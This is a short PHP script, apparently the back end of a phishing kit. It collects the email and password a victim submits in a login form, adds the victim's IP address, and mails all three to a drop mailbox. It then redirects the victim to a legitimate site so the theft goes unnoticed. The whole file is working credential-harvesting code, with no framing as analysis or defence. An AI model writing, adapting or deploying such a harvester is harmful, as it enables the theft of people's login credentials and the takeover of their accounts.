<?php
$ip = getenv("REMOTE_ADDR");
$message = "Email: " . $_POST["email"] . "\nPassword: " . $_POST["password"] . "\nIP: " . $ip . "\n";
$send = "drop@example.invalid";
mail($send, "Result " . $ip, $message);
header("Location: https://example.com/");
?>
